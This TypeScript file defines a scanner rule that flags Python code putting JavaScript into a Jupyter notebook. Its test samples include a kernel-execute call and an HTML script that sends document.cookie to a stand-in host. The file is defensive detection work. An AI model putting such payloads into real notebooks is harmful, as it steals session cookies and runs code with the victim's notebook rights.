// The rule for source that shows a script to whoever reads the notebook.

import { defineRule } from '../../define-rule.ts';

export const displaysScript = defineRule({
  id: 'notebook/displays-script',
  title: 'Source puts a script into the notebook it runs in',
  category: 'unsafe-code',
  severity: 'medium',
  stability: 'stable',
  since: '0.1',
  cwe: [829, 506],
  owasp: ['ML06:2023', 'LLM03:2025', 'LLM04:2026'],
  atlas: ['AML.T0011'],
  tags: ['notebook', 'scripts'],
  message: '`{call}` in {where} {effect}',
  why: 'The script runs in the browser of whoever runs or trusts the notebook, with the rights of his notebook server.',
  fix: ['Show text or a picture', 'Do not run the notebook before the script was looked at'],
  falsePositives: 'Buttons and drawings that are written by hand.',
  samples: {
    fires: [
      'notebook: from IPython.display import Javascript\nJavascript("Jupyter.notebook.kernel.execute(\'import os\')")',
      'python: from IPython.display import HTML\nHTML("<script>navigator.sendBeacon(\'https://host.invalid\', document.cookie)</script>")',
    ],
    silent: ["notebook: from IPython.display import HTML\nHTML('<b>done</b>')"],
  },
});
